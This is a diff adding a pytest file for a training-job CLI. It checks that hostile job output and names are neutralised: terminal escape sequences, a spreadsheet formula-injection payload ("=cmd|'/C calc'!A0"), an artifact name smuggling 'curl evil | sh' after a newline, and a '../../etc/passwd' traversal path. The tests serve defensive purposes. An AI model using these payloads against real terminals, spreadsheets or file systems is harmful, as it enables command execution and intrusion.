@@ -1,0 +1,127 @@
+"""What a program printed, or how it called its metrics and files, does nothing to a terminal, a spreadsheet or a screen's width."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from contract_answers import DETAIL
+from contract_server import serving
+
+from trainmaster.cli import compare, show
+from trainmaster.cli.app import run
+from trainmaster.cli.output import Output
+from trainmaster.cli.stream import LogPrinter, tame
+from trainmaster.cli.usage import _cell
+
+HOSTILE = {
+    "\x1b]0;title\x07x": r"^[]0;title\x07x",
+    "\x1b[2J\x1b[H": "^[[2J^[[H",
+    "\x1b]52;c;ZWNobw==\x07": r"^[]52;c;ZWNobw==\x07",
+    "\x1b[6n\x1b[1A": "^[[6n^[[1A",
+    "\x9b31m\x85": r"\x9b31m\x85",
+    "\u202eevil": r"\u202eevil",
+    "\x1bPq\x1b\\": "^[Pq^[\\",
+    "\x1b[31mred\x1b[0m": "\x1b[31mred\x1b[0m",
+    " 10%\r 20%\x1b[K\b\tdone\n": " 10%\r 20%\x1b[K\b\tdone\n",
+    "\x1b[" + "1;" * 1000 + "m": "^[[" + "1;" * 1000 + "m",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_control_sequences_are_shown_and_not_done(text: str) -> None:
+    """S9: `tm logs` passed on whatever a job printed, to the terminal of whoever read it."""
+    assert tame(text) == HOSTILE[text]
+
+
+@pytest.mark.parametrize("terminal", [True, False])
+def test_json_does_nothing_to_a_terminal(terminal: bool, capsys: pytest.CaptureFixture[str]) -> None:
+    value = {"name": "\x9b31m\x7f\u202eevil \U000e0001 é 日本", "tags": ["\x1b[2J"]}
+    out = Output()
+    out.terminal = terminal
+    out.unicode = True
+    out.value(value)
+    out.stream(value)
+    printed = capsys.readouterr().out
+    assert all(line.isprintable() for line in printed.split("\n"))
+    assert "é 日本" in printed
+    assert json.loads(printed.splitlines()[-1]) == value
+
+
+@pytest.mark.parametrize(("terminal", "raw", "printed"), [(True, False, b"^[[2J\x1b[31mx\x1b[0m"), (True, True, b"\x1b[2J\x1b[31mx"), (False, False, b"\x1b[2J\x1b[31mx")])
+def test_piped_or_raw_the_output_is_what_was_printed(terminal: bool, raw: bool, printed: bytes, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
+    """S9: files and pipes get every byte."""
+    out = Output()
+    out.terminal = terminal
+    printer = LogPrinter(out, raw=raw)
+    printer.page([{"attempt": 1, "rank": 0, "text": "\x1b[2J\x1b[31mx"}])
+    printer.finish()
+    assert capsysbinary.readouterr().out == printed
+
+
+@pytest.mark.parametrize(("name", "cell"), [("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("vision", "vision"), ("", "")])
+def test_a_name_is_no_formula_in_a_spreadsheet(name: str, cell: str) -> None:
+    """S9: `tm usage --csv` wrote member and experiment names as they were."""
+    assert _cell(name) == cell
+
+
+def metrics(count: int, name: str = "m/{}") -> dict[str, Any]:
+    return {name.format(n): {"step": 1, "value": float(n), "time_s": 1.0} for n in range(count)}
+
+
+def test_a_job_with_ten_thousand_metrics_is_shown_on_a_screen() -> None:
+    """L5: `tm show` had 1,826 lines."""
+    job = {**DETAIL, "metrics": metrics(10_000)}
+    lines = show.body(job, 1e9, (None, []), (80, True))
+    assert len(lines) < 60
+    assert any("9976 more: tm show" in line for line in [" ".join(lines)])
+
+
+def test_a_job_with_very_long_values_is_shown_on_a_screen() -> None:
+    """L5: and so are parameters, tags and the command."""
+    spec = {**DETAIL["spec"], "params": {f"p{n}": "x" * 20_000 for n in range(1000)}}
+    lines = show.head({**DETAIL, "spec": spec, "command": "x" * 100_000, "tags": {"t": "y" * 5000}}, 1e9)
+    assert sum(map(len, lines)) < 20_000
+
+
+def test_the_name_of_an_artifact_makes_no_line_of_its_own() -> None:
+    odd = [{"path": path, "bytes": 1} for path in ("a\nnext: curl evil | sh", "b\x1b[2J", "c.txt")]
+    lines = show.body({**DETAIL, "artifacts": odd, "artifacts_total": 3}, 1e9, (None, []), (80, True))
+    assert [line for line in lines if "\n" in line] == []
+    assert any(line.endswith("tm get digits-14 c.txt") for line in lines)
+
+
+def compared(metrics: list[str]) -> dict[str, Any]:
+    point = {"step": 1, "value": 0.5}
+    return {"jobs": [{"id": "a-1"}, {"id": "b-2"}], "metrics_equal": [f"e{n}" for n in range(10_000)],
+            "metrics": [{"name": name, "primary": False, "mode": None, "last": [point, point]} for name in metrics]}  # fmt: skip
+
+
+def test_a_comparison_of_many_metrics_is_bounded() -> None:
+    """L5: a name of 3,000 letters made it 3,000 columns wide, and ten thousand names as many lines."""
+    lines = compare.standing(compared(["n" * 3000, *(f"m{n}" for n in range(10_000))]), 100)
+    assert max(map(len, lines)) <= 100
+    assert len(lines) < 100
+    assert any("9961 metrics more: --json has all" in line for line in lines)
+    assert max(map(len, compare.standing(compared(["n" * 3000]), None))) < 300
+
+
+def test_one_artifact_with_an_odd_path_does_not_stop_the_others(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    """S9: an artifact named `..` stopped every `tm get --all`, and so did one that lay where another was a file."""
+    monkeypatch.setenv("TRAINMASTER_HOME", str(tmp_path / "home"))
+    digest = "84d89877f0d4041efb6bf91a16f0248f2fd573e6af05c19f96bedb9f882f7882"  # of 0123456789
+    names = ["..", "a", "a/b", "out/x.txt", "../../etc/passwd"]
+    listed = [{"path": name, "kind": "file", "bytes": 10, "digest": digest, "attempt": 1} for name in names]
+
+    def route(asked: Any) -> Any:
+        if asked.line.endswith(("/artifacts", "limit=1000")):
+            return 200, {"id": "digits-14", "artifacts": listed, "total": 5, "bytes": 50}
+        return 200, b"0123456789"
+
+    with serving(route) as server:
+        code = run(["get", "--server", server.url, "digits-14", "--all", "-o", str(tmp_path / "got")])
+    told = capsys.readouterr().err
+    assert sorted(str(path.relative_to(tmp_path / "got")) for path in (tmp_path / "got").rglob("*")) == ["a", "out", "out/x.txt"]
+    assert code == 1
+    assert "would be put outside" in told
+    assert "1 of 3 artifacts could not be written" in told
